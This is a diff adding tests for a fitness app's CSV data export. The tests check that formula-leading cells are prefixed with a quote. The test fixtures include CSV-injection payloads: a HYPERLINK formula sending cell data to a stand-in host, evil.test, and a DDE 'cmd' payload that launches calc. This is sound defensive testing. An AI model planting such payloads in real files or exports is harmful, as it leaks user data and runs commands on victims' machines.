@@ -8,7 +8,7 @@ import { DEMO_COACH_ID, DEMO_LIFTER_ID, DEMO_SECOND_LIFTER_ID } from '@/server/d
 import { seedDemo } from '@/server/demo/seed';
 import { setRateLimits } from '@/server/http/rate-limit';
 import { DELETED_USER } from '@/server/privacy/delete-user';
-import { SETS_CSV_COLUMNS } from '@/server/privacy/export';
+import { defused, SETS_CSV_COLUMNS } from '@/server/privacy/export';
 import { USER_TABLES } from '@/server/privacy/user-tables';
 import { seedFeedback } from '../fixtures/seed-examples';
 import { call, del, get, post } from '../helpers/api';
@@ -83,6 +83,36 @@ describeEachDatabase('data rights', (ctx) => {
       expect([...dates].sort()).toEqual(dates);
       expect(records.every((r) => Number(r.actual_weight) >= 0 && ['true', 'false'].includes(r.done!))).toBe(true);
     });
+
+    it('defuses text a spreadsheet would run as a formula (CSV injection): a leading quote, shown as written', async () => {
+      const token = await createUser(ctx.db, 'csv-lifter');
+      const evil = {
+        '=HYPERLINK("https://evil.test/?"&A1,"Open")': '@SUM(1+1)',
+        "+cmd|' /C calc'!A0": '-2+3',
+      };
+      for (const [dayType, exercise] of Object.entries(evil)) {
+        const set = { exercise, set_number: 1, rec_weight: 50, rec_reps: 5, actual_weight: 50, actual_reps: 5 };
+        const session = { user_id: 'csv-lifter', date: '2025-11-20', day_type: dayType, finished: true, sets: [set] };
+        expect((await post('/api/v1/session', session, token)).status).toBe(201);
+      }
+      const csv = (await get('/api/v1/export?format=csv', token)).body as string;
+      const records = parse(csv, { columns: true }) as Record<string, string>[];
+      expect(records).toHaveLength(2);
+      for (const [dayType, exercise] of Object.entries(evil)) {
+        const row = records.find((r) => r.day_type === `'${dayType}`);
+        expect(row, dayType).toBeDefined();
+        expect(row!.exercise).toBe(`'${exercise}`);
+        expect(row!.rec_weight).toBe('50'); // numbers stay numbers
+      }
+    });
+
+    it.each(['=1+1', '+1', '-1', '@A1', '\tA1', '\rA1'])(
+      'defuses a cell starting %j; leaves others as they are',
+      (cell) => {
+        expect(defused(cell)).toBe(`'${cell}`);
+        expect(defused(`Bench ${cell}`)).toBe(`Bench ${cell}`);
+      },
+    );
 
     it.each([
       ['someone else’s data', `?user_id=${DEMO_SECOND_LIFTER_ID}`, 403, 'user_id'],
